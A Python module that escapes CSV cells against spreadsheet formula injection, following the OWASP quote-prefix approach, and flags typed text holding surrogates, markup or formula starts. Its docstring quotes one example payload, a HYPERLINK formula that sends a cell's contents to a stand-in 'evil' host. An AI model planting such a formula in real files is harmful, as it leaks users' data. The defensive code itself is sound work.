"""Text that leaves pincite for a spreadsheet, a CSV reader or a page: the rules it keeps.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return, which some readers strip first) as a formula: `=HYPERLINK("http://evil/?"&A1)`
in a row label copied from a hostile workbook runs when a person opens the CSV. Every CSV
pincite writes goes through `csv_text`, which escapes such a cell the OWASP way: a single
quote before it, so the reader shows the text and runs nothing. Numbers are written as
numbers (a negative amount stays `-5`).

`text_problem` says why a string a person typed (a reviewer's corrected value) is not
plain text: a lone surrogate (an undecodable byte that no JSON or UTF-8 writer can
carry), markup, or a formula start.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")
_MARKUP = re.compile(r"<[A-Za-z/!?]|&#?[A-Za-z0-9]+;")
_SURROGATE = re.compile(r"[\ud800-\udfff]")


def formula_start(text: str) -> bool:
    """Return True when a spreadsheet would read `text` as a formula (its first character,
    or its first after leading spaces, is one of `FORMULA_STARTS`)."""
    return bool(text) and (text[0] in FORMULA_STARTS or text.lstrip(" ")[:1] in FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """Return `value` safe for a CSV cell: a string a spreadsheet would run as a formula
    gets a single quote in front (OWASP); numbers and other strings are unchanged."""
    if isinstance(value, str) and formula_start(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Return the CSV text of `rows` (header first), every cell escaped by `csv_cell`."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    for row in rows:
        w.writerow([csv_cell(v) for v in row])
    return buf.getvalue()


def has_surrogate(text: str) -> bool:
    """Return True when `text` holds a lone surrogate (U+D800–U+DFFF)."""
    return _SURROGATE.search(text) is not None


def text_problem(text: str) -> str | None:
    """Return why `text` is not plain text for a cell or a page (`surrogate`, `markup`,
    `formula`), or None when it is."""
    if has_surrogate(text):
        return "surrogate"
    if _MARKUP.search(text):
        return "markup"
    if formula_start(text):
        return "formula"
    return None
